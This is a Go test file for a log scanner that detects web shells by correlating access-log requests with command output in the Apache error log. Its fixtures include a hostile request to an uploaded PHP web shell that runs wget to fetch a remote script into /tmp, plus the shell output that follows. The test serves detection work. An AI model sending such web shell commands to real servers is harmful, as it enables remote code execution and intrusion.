package main

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// webshellReport runs logscan on an access and an error log and returns the
// JSON report's webshell and findings.
func webshellReport(t *testing.T, access, errors []string) (map[string]any, []map[string]any) {
	t.Helper()
	dir := t.TempDir()
	a := writeFile(t, dir, "access.log", []byte(strings.Join(access, "\n")+"\n"))
	e := writeFile(t, dir, "error.log", []byte(strings.Join(errors, "\n")+"\n"))
	out, errOut, code := runCLI(t, "", "--format", "json", a, e)
	require.Equal(t, 0, code, errOut)
	var rep struct {
		Webshell map[string]any   `json:"webshell"`
		Findings []map[string]any `json:"findings"`
		Inputs   []map[string]any `json:"inputs"`
	}
	require.NoError(t, json.Unmarshal([]byte(out), &rep))
	return rep.Webshell, rep.Findings
}

// The command output below is what wget and a shell print on standard
// error, which Apache's error log receives from a CGI or mod_php process
// without its entry layout.
var shellOutput = []string{
	"--2026-11-24 10:00:01--  http://203.0.113.9/x.sh",
	"Connecting to 203.0.113.9:80... connected.",
	"HTTP request sent, awaiting response... 200 OK",
	"Saving to: '/tmp/x.sh'",
	"sh: 1: /tmp/x.sh: Permission denied",
}

func TestWebshell(t *testing.T) {
	shellReq := "GET /wp-content/uploads/2026/11/up.php?cmd=wget%20http://203.0.113.9/x.sh%20-O%20/tmp/x.sh HTTP/1.1"
	entry := a24("10:00:00", "php7:notice", "", "198.51.100.66", "PHP Notice:  Undefined index: x in /var/www/html/wp-content/uploads/2026/11/up.php on line 2")
	later := a24("10:20:00", "core:notice", "", "", "AH00094: Command line: '/usr/sbin/apache2'")
	for _, tc := range []struct {
		name    string
		access  []string
		errors  []string
		confirm bool
	}{
		{"a shell command answered 200 and its output in the error log",
			[]string{acc("198.51.100.66", "10:00:00", shellReq, 200), acc("198.51.100.67", "10:00:02", "GET / HTTP/1.1", 200)},
			append(append([]string{entry}, shellOutput...), later), true},
		{"look-alike: the same query answered 404 (a scanner's probe)",
			[]string{acc("198.51.100.66", "10:00:00", shellReq, 404)},
			append(append([]string{entry}, shellOutput...), later), false},
		{"look-alike: the query answered 200 but no command output",
			[]string{acc("198.51.100.66", "10:00:00", shellReq, 200)},
			[]string{entry, later}, false},
		{"look-alike: command output without such a request",
			[]string{acc("198.51.100.66", "10:00:00", "GET /index.php?p=42 HTTP/1.1", 200)},
			append(append([]string{entry}, shellOutput...), later), false},
		{"look-alike: the output an hour after the request",
			[]string{acc("198.51.100.66", "09:00:00", shellReq, 200)},
			append(append([]string{entry}, shellOutput...), later), false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w, fs := webshellReport(t, tc.access, tc.errors)
			if !tc.confirm {
				assert.Nil(t, w)
				for _, f := range fs {
					assert.NotEqual(t, "webshell", f["kind"])
				}
				return
			}
			require.NotNil(t, w)
			assert.EqualValues(t, 200, w["status"])
			assert.Contains(t, w["request"], "access.log:1: ")
			assert.Contains(t, w["request"], "up.php?cmd=wget")
			assert.Contains(t, w["output"], "error.log:2: --2026-11-24 10:00:01--  http://203.0.113.9/x.sh")
			require.NotEmpty(t, fs)
			assert.Equal(t, "webshell", fs[0]["kind"], "the first finding")
			assert.Contains(t, fs[0]["text"], "a web shell ran commands, confirmed")
		})
	}
}

// TestStrayLinesKept checks that stray lines of an Apache error log are
// counted apart and shown, not folded into the entry above.
func TestStrayLinesKept(t *testing.T) {
	dir := t.TempDir()
	e := writeFile(t, dir, "error.log", []byte(strings.Join(append([]string{a24("10:00:00", "core:notice", "", "", "AH00094: Command line: '/usr/sbin/apache2'")}, shellOutput...), "\n")+"\n"))
	out, errOut, code := runCLI(t, "", "--format", "json", e)
	require.Equal(t, 0, code, errOut)
	var rep struct {
		Inputs []struct {
			Foreign      int64 `json:"foreign"`
			Continuation int64 `json:"continuation"`
			Warnings     []struct {
				Line    int64  `json:"line"`
				Reason  string `json:"reason"`
				Excerpt string `json:"excerpt"`
			} `json:"warnings"`
		} `json:"inputs"`
	}
	require.NoError(t, json.Unmarshal([]byte(out), &rep))
	require.Len(t, rep.Inputs, 1)
	assert.EqualValues(t, 5, rep.Inputs[0].Foreign)
	assert.EqualValues(t, 0, rep.Inputs[0].Continuation)
	require.NotEmpty(t, rep.Inputs[0].Warnings)
	assert.EqualValues(t, 2, rep.Inputs[0].Warnings[0].Line)
	assert.Contains(t, rep.Inputs[0].Warnings[0].Reason, "not an error-log entry")
}
